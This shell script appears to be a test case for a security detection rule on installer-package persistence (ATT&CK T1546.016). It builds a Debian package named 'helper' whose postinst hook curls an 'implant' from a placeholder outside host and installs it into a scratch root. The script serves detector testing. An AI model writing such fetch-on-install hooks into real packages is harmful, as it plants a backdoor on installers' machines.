#!/bin/sh
# technique: T1546.016 Event Triggered Execution: Installer Packages
# rule: package_script_downloads
# A package whose script fetches what is then run. Installed into a root of its own; without curl, a harmless
# program has its name.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
root=/tmp/install
mkdir -p /tmp/package/DEBIAN $root/var/lib/dpkg/info $root/var/lib/dpkg/updates /tmp/bin
touch $root/var/lib/dpkg/status $root/var/lib/dpkg/available
command -v curl >/dev/null || cp /bin/true /tmp/bin/curl
printf 'Package: helper\nVersion: 1\nArchitecture: all\nMaintainer: x <x@example.org>\nDescription: helps\n' > /tmp/package/DEBIAN/control
printf '#!/bin/sh\ncurl -s -m 1 192.0.2.1:8083/implant || true\n' > /tmp/package/DEBIAN/postinst
chmod 755 /tmp/package/DEBIAN/postinst
PATH=$PATH:/usr/sbin:/sbin:/tmp/bin
export PATH
dpkg-deb --build /tmp/package /tmp/helper.deb >/dev/null
dpkg --root=$root --force-all --force-script-chrootless --install /tmp/helper.deb >/dev/null 2>&1 || true
exit 0
